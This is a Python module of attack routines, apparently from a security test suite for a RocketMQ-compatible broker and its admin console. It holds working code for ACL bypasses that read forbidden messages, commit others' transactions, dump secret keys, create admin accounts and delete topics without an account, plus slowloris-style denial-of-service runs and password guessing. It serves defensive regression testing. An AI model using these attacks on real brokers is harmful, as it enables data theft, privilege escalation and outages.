"""The attacks. Each returns the attacker's gain as one line; NOTHING at its beginning means that it failed."""

from __future__ import annotations

import asyncio
import contextlib
import http.client
import os
import re
import socket
import ssl
import time
from collections.abc import Awaitable, Callable, Iterator, Mapping
from pathlib import Path
from typing import Final
from urllib.parse import urlencode

from benchmarks.attacks.place import (
    CONSUMER,
    FORBIDDEN,
    GROUP,
    NOBODY,
    SECRET_TEXT,
    STRANGER,
    Place,
    program,
)
from rocketmq_broker.message.ids import offset_message_id
from rocketmq_broker.protocol import pull_sysflag
from rocketmq_broker.protocol.bodies.heartbeat import ConsumerData, ConsumeType, HeartbeatData
from rocketmq_broker.protocol.codes import RequestCode, ResponseCode
from rocketmq_broker.protocol.command import RemotingCommand, encode_response
from rocketmq_broker.protocol.headers import PullMessageRequestHeader
from rocketmq_broker.remoting import RemotingClient
from rocketmq_broker.remoting.connections.connection import Connection
from rocketmq_broker.remoting.connections.own_requests import SignedHeader
from rocketmq_broker.remoting.dispatcher import Dispatcher

PATIENCE_S: Final = 12.0
NOTHING: Final = "nothing"


def refused(answer: RemotingCommand) -> str:
    """Returns the gain of a refused attacker."""
    remark = (answer.remark or "").removeprefix("org.apache.rocketmq.acl.common.AclException: ")
    return f"{NOTHING}: {remark[:70]}"


def read(answer: RemotingCommand) -> str:
    """Returns the gain of an attacker who wants the secret text."""
    return "read the message" if SECRET_TEXT in answer.body else refused(answer)


async def view_a_message(place: Place) -> str:
    """VIEW_MESSAGE_BY_ID, offset written N.0, by an account without permissions"""
    return read(await place.ask(STRANGER, RequestCode.VIEW_MESSAGE_BY_ID, {"offset": f"{place.message_at}.0"}))


async def view_a_half_message(place: Place) -> str:
    """VIEW_MESSAGE_BY_ID of an undecided half message, offset written Ne0"""
    return read(await place.ask(STRANGER, RequestCode.VIEW_MESSAGE_BY_ID, {"offset": f"{place.half_at}e0"}))


async def push_to_oneself(place: Place) -> str:
    """CONSUME_MESSAGE_DIRECTLY of a forbidden topic's message, to one's own client"""
    pushed: list[bytes] = []

    def take(connection: Connection, command: RemotingCommand) -> bytes:
        pushed.append(command.body)
        return encode_response(command, ResponseCode.SUCCESS)

    dispatcher = Dispatcher()
    dispatcher.add({RequestCode.CONSUME_MESSAGE_DIRECTLY: take})
    client = RemotingClient(dispatcher)
    try:
        await _heartbeat(place, client)
        fields = {"consumerGroup": GROUP, "clientId": "attacker", "msgId": offset_message_id(bytes(8), place.message_at)}
        header = SignedHeader(CONSUMER.signed(fields, b""))
        answer = await client.invoke(place.address, RequestCode.CONSUME_MESSAGE_DIRECTLY, header, timeout_ms=20_000)
    finally:
        await client.close()
    return "read the message" if any(SECRET_TEXT in body for body in pushed) else refused(answer)


async def send_back_to_oneself(place: Place) -> str:
    """CONSUMER_SEND_MSG_BACK of a forbidden topic's message, then a pull of one's own retry topic"""
    client = RemotingClient()
    try:
        await _heartbeat(place, client)
        back = {"offset": str(place.message_at), "group": GROUP, "delayLevel": "1"}
        answer = await place.ask(CONSUMER, RequestCode.CONSUMER_SEND_MSG_BACK, back)
        if answer.code != ResponseCode.SUCCESS:
            return refused(answer)
        await asyncio.sleep(2.5)  # the first delay level is one second
        pull = PullMessageRequestHeader(
            consumer_group=GROUP, topic=f"%RETRY%{GROUP}", queue_id=0, queue_offset=0, max_msg_nums=32,
            sys_flag=pull_sysflag.SUBSCRIPTION, commit_offset=0, suspend_timeout_millis=0, subscription="*", sub_version=0,
        )  # fmt: skip
        return read(await place.ask(CONSUMER, RequestCode.PULL_MESSAGE, pull.ext_fields()))
    finally:
        await client.close()


async def _heartbeat(place: Place, client: RemotingClient) -> None:
    consumer = ConsumerData(GROUP, consume_type=ConsumeType.CONSUME_ACTIVELY)
    body = HeartbeatData(client_id="attacker", consumer_data_set=[consumer]).encode()
    await client.invoke(place.address, RequestCode.HEART_BEAT, SignedHeader(CONSUMER.signed({}, body)), body, timeout_ms=20_000)


async def decide_for_others(place: Place) -> str:
    """END_TRANSACTION (COMMIT) of another's transaction, offset written N.0, without permissions"""
    fields = {"producerGroup": "p", "tranStateTableOffset": "0", "commitLogOffset": f"{place.half_at}.0",
              "commitOrRollback": "8", "msgId": "half", "transactionId": "half"}  # fmt: skip
    answer = await place.ask(STRANGER, RequestCode.END_TRANSACTION, fields)
    return "committed it" if answer.code == ResponseCode.SUCCESS else refused(answer)


async def read_the_secret_keys(place: Place) -> str:
    """All accounts, asked for by the compose account `reconciliation`"""
    auditor = place.account("reconciliation", "reconciliation-account")
    answer = await place.ask(auditor, RequestCode.GET_BROKER_CLUSTER_ACL_CONFIG, {})
    secrets = [path.read_text().encode() for path in place.secrets.glob("*-account")]
    seen = sum(secret in answer.body for secret in secrets)
    return f"{seen} secret keys" if seen else refused(answer)


async def read_the_secret_keys_as_operators(place: Place) -> str:
    """All accounts, asked for by a full admin"""
    operators = place.account("operators", "operators-account")
    answer = await place.ask(operators, RequestCode.GET_BROKER_CLUSTER_ACL_CONFIG, {})
    seen = sum(path.read_text().encode() in answer.body for path in place.secrets.glob("*-account"))
    return f"{seen} secret keys" if seen else f"{NOTHING}: {answer.body.count(b'accessKey')} accounts without their keys"


async def make_an_admin(place: Place) -> str:
    """An admin's account, made by the compose account `reconciliation`"""
    fields = {"accessKey": "new-admin", "secretKey": "long enough", "admin": "true"}
    auditor = place.account("reconciliation", "reconciliation-account")
    answer = await place.ask(auditor, RequestCode.UPDATE_AND_CREATE_ACL_CONFIG, fields)
    return "made an admin" if answer.code == ResponseCode.SUCCESS else refused(answer)


async def end_in_a_line_separator(place: Place) -> str:
    """An account whose key ends in U+2028, made by an admin: the file gives another one back"""
    fields = {"accessKey": "orders-key\u2028", "secretKey": "long enough"}
    answer = await place.ask(place.account("operators", "operators-account"), RequestCode.UPDATE_AND_CREATE_ACL_CONFIG, fields)
    return "made" if answer.code == ResponseCode.SUCCESS else refused(answer)


async def hide_a_topic(place: Place) -> str:
    """DELETE_TOPIC_IN_NAMESRV without an account"""
    delete = await place.ask(NOBODY, RequestCode.DELETE_TOPIC_IN_NAMESRV, {"topic": FORBIDDEN}, address=place.name_server)
    route = await place.ask(NOBODY, RequestCode.GET_ROUTEINFO_BY_TOPIC, {"topic": FORBIDDEN}, address=place.name_server)
    return "no client finds the topic" if route.code == ResponseCode.TOPIC_NOT_EXIST else refused(delete)


async def begin_handshakes(place: Place) -> str:
    """700 sockets that send 6 bytes of a TLS handshake; then one honest TLS client"""
    host, _, port = place.address.rpartition(":")
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    await _until_served(lambda: asyncio.open_connection(host, int(port), ssl=context))  # the certificate for tests is created now
    lying = [await asyncio.open_connection(host, int(port)) for _ in range(700)]
    for _, writer in lying:
        writer.write(b"\x16\x03\x01\x02\x00\x01")
    await asyncio.sleep(0.5)
    served_s = await _until_served(lambda: asyncio.open_connection(host, int(port), ssl=context))
    for _, writer in lying:
        writer.close()
    return _shut_out(served_s)


async def _until_served(connect: Callable[[], Awaitable[tuple[object, asyncio.StreamWriter]]]) -> float | None:
    began_s = time.monotonic()
    while time.monotonic() - began_s < PATIENCE_S:
        with contextlib.suppress(OSError, TimeoutError):
            async with asyncio.timeout(5):
                _, writer = await connect()
            writer.close()
            return time.monotonic() - began_s
        await asyncio.sleep(0.1)
    return None


def _shut_out(served_s: float | None) -> str:
    if served_s is None:
        return f"nobody served for {PATIENCE_S:g} s, when the attack ended"
    return f"nobody served for {served_s:.1f} s" if served_s > 3 else f"{NOTHING}: the honest client waited {served_s:.2f} s"


@contextlib.contextmanager
def console(checkout: Path, folder: Path) -> Iterator[int]:
    """Yields the port of a console with a password, from that checkout."""
    folder.mkdir()
    (folder / "password").write_text("the right password")
    words = ("-m", "rocketmq_broker.admin", "console", "--listen", "127.0.0.1:0", "--password-file", str(folder / "password"))
    process = program(checkout, *words, "--broker-addr", "127.0.0.1:1")
    try:
        assert process.stdout is not None
        found = re.search(r"http://127\.0\.0\.1:(\d+)", process.stdout.readline())
        if found is None:
            raise RuntimeError(f"the console did not start: {process.stdout.read()}")
        yield int(found[1])
    finally:
        process.terminate()
        process.wait(timeout=30)


class Visitor:
    """A browser at the console, with an address of this machine."""

    def __init__(self, port: int, source: str = "127.0.0.1") -> None:
        self._port, self._source = port, source
        self._cookie = ""

    def asks(self, method: str, path: str, fields: Mapping[str, str] | None = None) -> tuple[int, str]:
        """Returns the status and the text of the answer."""
        connection = http.client.HTTPConnection("127.0.0.1", self._port, timeout=5, source_address=(self._source, 0))
        headers = {"Cookie": self._cookie, "Content-Type": "application/x-www-form-urlencoded"}
        connection.request(method, path, urlencode(fields) if fields else None, headers)
        answer = connection.getresponse()
        text = answer.read().decode()
        self._cookie = (answer.headers["Set-Cookie"] or self._cookie).partition(";")[0]
        connection.close()
        return answer.status, text

    def gives(self, password: str) -> int:
        """Returns the status of the answer to a password."""
        token = re.search(r'name="csrf" value="([^"]*)"', self.asks("GET", "/login")[1])
        return self.asks("POST", "/login", {"csrf": token[1] if token else "", "password": password})[0]

    @property
    def cookie(self) -> str:
        """The console's cookie."""
        return self._cookie


def half_requests(checkout: Path, folder: Path) -> str:
    """210 half HTTP requests at the console; then one honest visitor"""
    with console(checkout, folder) as port:
        lying = [socket.create_connection(("127.0.0.1", port)) for _ in range(210)]
        for one in lying:
            one.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
        time.sleep(0.5)
        began_s, served_s = time.monotonic(), None
        while served_s is None and time.monotonic() - began_s < PATIENCE_S:
            with contextlib.suppress(OSError, http.client.HTTPException):
                if Visitor(port).asks("GET", "/login")[0] == 200:
                    served_s = time.monotonic() - began_s
            time.sleep(0.1)
        for one in lying:
            one.close()
    return _shut_out(served_s)


def wrong_passwords(checkout: Path, folder: Path) -> str:
    """Five wrong passwords from 127.0.0.2 at the console; then the right one from 127.0.0.1"""
    with console(checkout, folder) as port:
        attacker = Visitor(port, "127.0.0.2")
        for _ in range(5):
            attacker.gives("guess")
        shut, status = attacker.gives("guess"), Visitor(port).gives("the right password")
    told = "may go on guessing" if shut == 403 else "is shut out"
    return (
        f"the owner is shut out ({status})" if status != 303 else f"{NOTHING}: the owner is let in, the attacker {told} ({shut})"
    )


def live_pages(checkout: Path, folder: Path) -> str:
    """40 live pages of the console, asked for at once; 32 is the limit"""
    return asyncio.run(_live_pages(checkout, folder))


async def _live_pages(checkout: Path, folder: Path) -> str:
    with console(checkout, folder) as port:
        visitor = Visitor(port)
        visitor.gives("the right password")
        request = f"GET /topics/live HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\nCookie: {visitor.cookie}\r\n\r\n".encode()
        opened = [await asyncio.open_connection("127.0.0.1", port) for _ in range(40)]
        for _, writer in opened:
            writer.write(request)
        async with asyncio.timeout(PATIENCE_S * 2):
            lines = [await reader.readline() for reader, _ in opened]
        for _, writer in opened:
            writer.close()
    live, refused_pages = sum(b" 200 " in line for line in lines), sum(b" 503 " in line for line in lines)
    return f"{live} are live" if live > 32 else f"{NOTHING}: {live} are live, {refused_pages} refused"


def fifo_for_doctor(checkout: Path, folder: Path) -> str:
    """`doctor --store` of a store whose checkpoint is a FIFO"""
    for name in ("commitlog", "config"):
        (folder / name).mkdir(parents=True)
    os.mkfifo(folder / "checkpoint")
    process = program(checkout, "-m", "rocketmq_broker.admin", "doctor", "--store", str(folder), "--broker-addr", "127.0.0.1:1")
    began_s = time.monotonic()
    try:
        process.wait(timeout=PATIENCE_S * 2)
    except Exception:
        process.kill()
        process.wait()
        return f"it waited for {time.monotonic() - began_s:.0f} s, when it was killed"
    return f"{NOTHING}: it ended after {time.monotonic() - began_s:.1f} s"


def modes_of_databases(checkout: Path, folder: Path) -> str:
    """The database of a service, made under the usual umask 022"""
    folder.mkdir()
    made = "import os, sys; os.umask(0o022); from service_runtime.database.engine import create_database_engine as e; "
    made += "e('sqlite:///' + sys.argv[1]).connect().exec_driver_sql('CREATE TABLE orders (id)')"
    program(checkout, "-c", made, str(folder / "orders.db")).wait(timeout=60)
    mode = (folder / "orders.db").stat().st_mode & 0o777
    return f"others read it (mode {mode:o})" if mode & 0o077 else f"{NOTHING}: mode {mode:o}"


AT_THE_BROKER: Final = (
    view_a_message, view_a_half_message, push_to_oneself, send_back_to_oneself, read_the_secret_keys,
    read_the_secret_keys_as_operators, make_an_admin, end_in_a_line_separator, begin_handshakes, decide_for_others, hide_a_topic,
)  # fmt: skip
ELSEWHERE: Final = (half_requests, wrong_passwords, live_pages, fifo_for_doctor, modes_of_databases)
